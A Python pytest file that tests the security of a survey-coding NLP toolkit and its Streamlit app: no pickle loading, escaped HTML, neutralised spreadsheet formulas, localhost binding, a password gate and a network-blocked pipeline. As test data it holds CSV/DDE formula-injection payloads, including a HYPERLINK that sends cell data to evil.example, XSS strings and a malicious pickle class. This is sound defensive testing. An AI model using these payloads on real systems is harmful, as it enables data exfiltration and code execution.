"""Security: no pickle loads of user files, user text never HTML in the app, exports that a
spreadsheet cannot execute, the app on 127.0.0.1 unless configured, the optional password,
and the whole pipeline with networking blocked."""
from __future__ import annotations

import ast
import os
import signal
import socket
import subprocess
import sys
import time
import tomllib
from pathlib import Path

import numpy as np
import pytest

from harness import BASE_ENV, NLP, REPO, new_project, run_nlp
from hostile_files import csv_bytes

SOURCES = [REPO / "app.py", *sorted((REPO / "nlp").rglob("*.py"))]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
HOSTILE_HTML = ('<script>alert(1)</script><img src=x onerror="alert(2)"> <b>bold</b> '
                '[link](javascript:alert(3)) :red[red] $x^2$ <iframe src="http://evil.example">')


# --- no pickle ---------------------------------------------------------------------------------
def _calls(tree: ast.AST):
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            f = node.func
            name = f.attr if isinstance(f, ast.Attribute) else getattr(f, "id", "")
            base = getattr(f.value, "id", "") if isinstance(f, ast.Attribute) else ""
            yield node, base, name


def test_no_pickle_anywhere_in_the_code():
    banned_modules = {"pickle", "cPickle", "_pickle", "dill", "cloudpickle", "joblib", "shelve",
                      "marshal"}
    for path in SOURCES:
        tree = ast.parse(path.read_text(encoding="utf-8"), str(path))
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                assert not {a.name.split(".")[0] for a in node.names} & banned_modules, path
            if isinstance(node, ast.ImportFrom) and node.module:
                assert node.module.split(".")[0] not in banned_modules, path
        for call, base, name in _calls(tree):
            where = f"{path.relative_to(REPO)}:{call.lineno}"
            kw = {k.arg: k.value for k in call.keywords}
            assert name not in ("read_pickle", "unsafe_load", "full_load"), where
            if base == "torch" and name == "load":
                pytest.fail(f"torch.load (pickle) at {where}")
            if base == "np" and name == "load":
                v = kw.get("allow_pickle")
                assert isinstance(v, ast.Constant) and v.value is False, \
                    f"np.load without allow_pickle=False at {where}"
            if base == "yaml" and name == "load":
                loader = kw.get("Loader")
                assert loader is not None and "Safe" in ast.unparse(loader), where


def test_a_pickle_in_the_embedding_cache_is_ignored_not_run(tmp_path: Path):
    from nlp.embed import EmbeddingCache, FakeEmbedder, embed_texts

    marker = tmp_path / "PWNED"

    class Evil:
        def __reduce__(self):
            return (Path.touch, (marker,))

    cache = EmbeddingCache(tmp_path)
    emb = FakeEmbedder()
    path = cache.path_for(emb.model_id)
    path.parent.mkdir(parents=True)
    np.savez(path, keys=np.array([Evil()], dtype=object), vectors=np.zeros((1, 32)),
             model_id=np.array(emb.model_id))
    vecs = embed_texts(["an answer"], embedder=emb, cache=cache)
    assert vecs.shape == (1, 32) and not marker.exists()


# --- the app -----------------------------------------------------------------------------------
def test_no_page_can_render_html():
    for path in [REPO / "app.py", *sorted((REPO / "nlp" / "app" / "ui").rglob("*.py"))]:
        src = path.read_text(encoding="utf-8")
        for bad in ("unsafe_allow_html", "st.html(", "components.html", "components.v1",
                    "st.components"):
            assert bad not in src, f"{bad} in {path}"


@pytest.fixture
def hostile_project(tmp_path: Path) -> Path:
    """A project whose answers, respondent, question and file name are HTML and Markdown."""
    from nlp.pipeline import import_file
    from nlp.project import open_project

    root = new_project(tmp_path / "proj")
    f = tmp_path / "<img src=x onerror=alert(9)>.csv"
    f.write_bytes(csv_bytes([["id", "text", "respondent", "question"],
                             ["h1", HOSTILE_HTML, "<b>r1</b>", "<script>q()</script>"],
                             ["h2", "An ordinary answer about slow tenders.", "r2", "q"]]))
    p = open_project(root)
    import_file(p.store, f)
    tids = p.store.active_codebook().theme_ids
    p.store.write_model_codings({"h1": {t: 0.9 for t in tids}, "h2": {t: 0.1 for t in tids}},
                                {t: 0.5 for t in tids}, model_id="test",
                                uncertainty={"h1": 0.9, "h2": 0.1})
    p.close()
    return root


def _app(root: Path, *, coder: str | None = "ana"):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=60)
    at.session_state["project_root"] = str(root)
    at.session_state["refresh_every"] = 0
    if coder:
        at.session_state["coder"] = coder
    return at


def _rendered(at) -> list[str]:
    out = []
    for kind in ("markdown", "caption", "info", "warning", "error", "success", "title",
                 "header", "subheader", "text"):
        out += [str(e.value) for e in getattr(at, kind)]
    return out


@pytest.mark.parametrize("page", ["review", "themes", "agreement", "export", "project"])
def test_hostile_answer_is_shown_as_text_on_every_page(hostile_project: Path, page: str):
    at = _app(hostile_project).run()
    if page != "review":
        at.switch_page(f"nlp/app/ui/pages/{page}.py").run()
    assert not at.exception, at.exception
    for value in _rendered(at):
        for tag in ("<script", "<img", "<b>", "<iframe"):
            i = value.find(tag)
            assert i < 0 or (i > 0 and value[i - 1] == "\\"), f"raw {tag} on {page}: {value}"
        assert ":red[" not in value and "](javascript" not in value, value


def test_password_gate(hostile_project: Path, monkeypatch):
    monkeypatch.setenv("NLP_APP_PASSWORD", "correct horse battery")
    at = _app(hostile_project).run()
    shown = " ".join(_rendered(at))
    assert "slow tenders" not in shown and "Who is coding" not in str(at.text_input)
    assert [t.label for t in at.text_input] == ["Password"]
    at.text_input(key="password_box").input("wrong guess")
    at.button[0].click().run()
    assert any("Wrong password" in e.value for e in at.error)
    assert "slow tenders" not in " ".join(_rendered(at))
    at.text_input(key="password_box").input("correct horse battery")
    at.button[0].click().run()
    assert not at.exception
    assert any(t.label == "Who is coding?" for t in at.text_input)
    assert "slow tenders" in " ".join(_rendered(at)) or "alert" in " ".join(_rendered(at))


def test_password_file_that_cannot_be_read_keeps_the_app_shut(hostile_project: Path,
                                                               monkeypatch, tmp_path: Path):
    empty = tmp_path / "pw"
    empty.write_text("\n", encoding="utf-8")
    monkeypatch.setenv("NLP_APP_PASSWORD_FILE", str(empty))
    at = _app(hostile_project).run()
    assert any("NLP_APP_PASSWORD_FILE" in e.value.replace("\\", "") for e in at.error)
    assert not at.text_input or [t.label for t in at.text_input] == []
    monkeypatch.setenv("NLP_APP_PASSWORD_FILE", str(tmp_path / "missing"))
    at = _app(hostile_project).run()
    assert any("NLP_APP_PASSWORD_FILE" in e.value.replace("\\", "") for e in at.error)
    (tmp_path / "pw2").write_text("s3cret\n", encoding="utf-8")
    monkeypatch.setenv("NLP_APP_PASSWORD_FILE", str(tmp_path / "pw2"))
    monkeypatch.setenv("NLP_APP_PASSWORD", "ignored when a file is named")
    at = _app(hostile_project).run()
    at.text_input(key="password_box").input("s3cret")
    at.button[0].click().run()
    assert any(t.label == "Who is coding?" for t in at.text_input)


def test_app_listens_on_localhost_by_default(tmp_path: Path):
    cfg = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert cfg["server"]["address"] == "127.0.0.1"
    assert cfg["browser"]["gatherUsageStats"] is False
    from nlp.app.server import app_command

    env = {k: v for k, v in os.environ.items() if k != "NLP_APP_HOST"}
    old = os.environ.copy()
    try:
        os.environ.clear()
        os.environ.update(env)
        cmd = app_command(tmp_path)
    finally:
        os.environ.clear()
        os.environ.update(old)
    assert cmd[cmd.index("--server.address") + 1] == "127.0.0.1"


def _listening(port: int) -> list[str]:
    """Local addresses listening on `port` (from /proc/net/tcp and tcp6)."""
    out = []
    for name in ("tcp", "tcp6"):
        try:
            lines = Path(f"/proc/net/{name}").read_text().splitlines()[1:]
        except OSError:
            continue
        for ln in lines:
            local, state = ln.split()[1], ln.split()[3]
            addr, p = local.rsplit(":", 1)
            if state == "0A" and int(p, 16) == port:
                out.append(addr)
    return out


def _children(pid: int) -> list[int]:
    try:
        return [int(c) for c in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    except OSError:
        return []


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/net/tcp").exists(), reason="needs Linux /proc")
def test_nlp_app_binds_127_0_0_1_and_stops_with_sigterm(project: Path):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {k: v for k, v in BASE_ENV.items() if k != "NLP_APP_HOST"}
    proc = subprocess.Popen([*NLP, "app", str(project), "--port", str(port)], cwd=REPO, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    children: list[int] = []
    try:
        for _ in range(600):
            if _listening(port) or proc.poll() is not None:
                break
            time.sleep(0.1)
        children = _children(proc.pid)
        addrs = _listening(port)
        assert addrs, "the app did not start"
        assert set(addrs) == {"0100007F"}, f"listening on {addrs}, not only 127.0.0.1"
        proc.send_signal(signal.SIGTERM)  # as `kill` or a service manager would
        proc.wait(timeout=30)
        for _ in range(100):
            if not _listening(port):
                break
            time.sleep(0.1)
        assert not _listening(port), "SIGTERM to `nlp app` left Streamlit serving"
    finally:
        for pid in [*children, proc.pid]:
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        proc.wait()


# --- exports ------------------------------------------------------------------------------------
@pytest.mark.parametrize("layout", ["wide", "long"])
def test_exports_neutralise_formulas(tmp_path: Path, layout: str):
    import csv

    import openpyxl

    from nlp.pipeline import export_project
    from nlp.pipeline import import_file
    from nlp.project import open_project

    root = new_project(tmp_path / "proj")
    f = tmp_path / "f.csv"
    f.write_bytes(csv_bytes([["id", "text"], *[[f"f{i}", t] for i, t in enumerate(FORMULAS)]]))
    p = open_project(root)
    import_file(p.store, f)
    tids = p.store.active_codebook().theme_ids
    p.store.write_model_codings({f"f{i}": {t: 0.9 for t in tids} for i in range(len(FORMULAS))},
                                {t: 0.5 for t in tids}, model_id="test")
    stored = p.store.corpus().texts
    out_csv = export_project(p.store, tmp_path / "x.csv", format="csv", anonymise=False,
                             layout=layout)
    out_xlsx = export_project(p.store, tmp_path / "x.xlsx", format="xlsx", anonymise=False,
                              layout=layout)
    p.close()
    with open(out_csv, encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    danger = ("=", "+", "-", "@", "\t", "\r")
    assert not [c for c in cells if c.startswith(danger)], "a CSV cell would run as a formula"
    for t in stored:
        assert "'" + t in cells or t in cells and not t.startswith(danger)
    wb = openpyxl.load_workbook(out_xlsx)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"formula in {ws.title}!{c.coordinate}: {c.value}"
                assert not (isinstance(c.value, str) and c.value.startswith(danger)), c.value


# --- no network -----------------------------------------------------------------------------------
BLOCKER = '''
import os, socket, sys
LOG = os.environ["NLP_NET_LOG"]
def _deny(what, *args):
    with open(LOG, "a", encoding="utf-8") as fh:
        fh.write(f"{what} {args[:2]!r}\\n")
    raise OSError("network blocked by the test")
_connect, _connect_ex, _sendto = socket.socket.connect, socket.socket.connect_ex, socket.socket.sendto
def connect(self, addr):
    if self.family == socket.AF_UNIX:
        return _connect(self, addr)
    _deny("connect", addr)
def connect_ex(self, addr):
    if self.family == socket.AF_UNIX:
        return _connect_ex(self, addr)
    _deny("connect_ex", addr)
def sendto(self, *args):
    if self.family == socket.AF_UNIX:
        return _sendto(self, *args)
    _deny("sendto", *args)
socket.socket.connect, socket.socket.connect_ex, socket.socket.sendto = connect, connect_ex, sendto
socket.getaddrinfo = lambda *a, **k: _deny("getaddrinfo", *a)
socket.create_connection = lambda *a, **k: _deny("create_connection", *a)
from nlp.app.cli import main
main(sys.argv[1:])
'''

ANSWERS = [
    "We were named in the prime's bid and never heard from them again.",
    "The contract price does not cover our overheads, so every referral costs us money.",
    "Nobody answered our clarification questions before the deadline.",
    "The tender pack ran to 140 pages for a contract worth £40,000.",
    "Only the large national providers have bid writers who can keep up.",
    "Payment in arrears means we carry three months of staff costs ourselves.",
    "A grant would let us design the service with the women who use it.",
    "Local knowledge counts for nothing in the scoring; a provider from far away won.",
    "Working with other local charities in a consortium gave us a fair chance.",
    "Sarah Jones at Leeds City Council told us the rules forbid them talking to us.",
]


@pytest.mark.slow
def test_whole_pipeline_with_networking_blocked(tmp_path: Path):
    """init, import, code (the real default embedder), export (anonymised: spaCy), REFI-QDA
    and the report, each in a process whose every socket connection and DNS lookup fails and
    is logged. The log must stay empty. The offline switches for the model hub are not set
    here: the toolkit must not need them from the caller."""
    blocker = tmp_path / "blocked.py"
    blocker.write_text(BLOCKER, encoding="utf-8")
    log = tmp_path / "net.log"
    env = {k: v for k, v in BASE_ENV.items()
           if k not in ("NLP_EMBEDDER", "HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE")}
    env["NLP_NET_LOG"] = str(log)
    root = tmp_path / "proj"
    answers = tmp_path / "answers.csv"
    answers.write_bytes(csv_bytes([["id", "text"], *[[str(i), t] for i, t in
                                                       enumerate(ANSWERS)]]))
    steps = [["init", root], ["--project", root, "import", answers], ["--project", root, "code"],
             ["--project", root, "export", "--format", "csv", "--out", tmp_path / "o.csv"],
             ["--project", root, "export", "--format", "xlsx", "--out", tmp_path / "o.xlsx"],
             ["--project", root, "export", "--format", "qdpx", "--out", tmp_path / "o.qdpx"],
             ["report", root, "--out", tmp_path / "report", "--format", "md,html,docx"]]
    for step in steps:
        res = subprocess.run([sys.executable, str(blocker), *map(str, step)], cwd=tmp_path,
                             env=env, capture_output=True, text=True, timeout=300)
        assert res.returncode == 0, (step, res.stdout[-2000:], res.stderr[-2000:])
        assert not log.exists(), f"{step[0:3]} tried the network:\n{log.read_text()}"
    assert "Sarah Jones" not in (tmp_path / "o.csv").read_text(encoding="utf-8-sig")
    assert (tmp_path / "report" / "report.docx").stat().st_size > 0
